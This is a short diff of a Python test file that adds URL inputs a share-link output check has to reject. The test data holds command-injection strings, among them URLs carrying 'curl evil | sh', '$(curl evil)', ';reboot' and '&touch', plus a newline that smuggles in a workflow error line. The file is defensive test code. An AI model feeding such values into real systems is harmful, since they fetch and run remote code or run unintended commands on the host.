@@ -339,6 +339,8 @@ def test_action_when_connections_are_refused_leaves_urllib3s_retry_chatter_out_o
         'https://x.example/"; curl evil | sh; "',
         "https://x.example/$(curl evil)",
         "https://x/\n::error::y",
+        "https://x.example/;reboot",
+        "https://x.example/&touch",
     ],
 )
 def test_share_link_when_not_an_https_address_is_not_output(
